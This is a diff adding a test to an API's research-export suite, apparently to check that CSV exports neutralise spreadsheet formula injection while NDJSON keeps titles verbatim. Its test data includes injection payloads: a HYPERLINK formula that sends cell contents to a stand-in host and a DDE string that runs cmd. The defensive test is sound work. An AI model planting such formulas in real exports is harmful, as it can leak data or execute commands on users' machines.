@@ -50,6 +50,20 @@ t.test('only consented approved stories, de-identified, as NDJSON and CSV', asyn
   t.equal((await app.inject({ url: `/v1/research/stories?site=${other.site.slug}`, headers: bearer(researcher) })).statusCode, 403)
 })
 
+t.test('a CSV cell a spreadsheet would run opens as text; NDJSON keeps the text as written', async (t) => {
+  const { app, db } = await buildTestApp(t)
+  const { site, topic } = await siteWithTopic(db)
+  const researcher = await apiKey(db, 'researcher', [site.slug])
+  const formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']
+  for (const title of formulas) await insertStories(db, site, topic, 1, { title, body: 'It helped.' })
+  const csv = await app.inject({ url: `/v1/research/stories?site=${site.slug}&format=csv`, headers: bearer(researcher) })
+  const cells = (parse(csv.body, { columns: true }) as Record<string, string>[]).map((r) => r.title).sort()
+  t.same(cells, formulas.map((f) => `'${f}`).sort(), 'each title begins with an apostrophe in the CSV')
+  const ndjson = await app.inject({ url: `/v1/research/stories?site=${site.slug}`, headers: bearer(researcher) })
+  const titles = ndjson.body.trimEnd().split('\n').map((l) => (JSON.parse(l) as { title: string }).title).sort()
+  t.same(titles, [...formulas].sort(), 'NDJSON keeps them as written')
+})
+
 t.test('a client that goes away stops the export query and frees its connection', async (t) => {
   const { app, db, config } = await buildTestApp(t)
   const { site, topic } = await siteWithTopic(db)
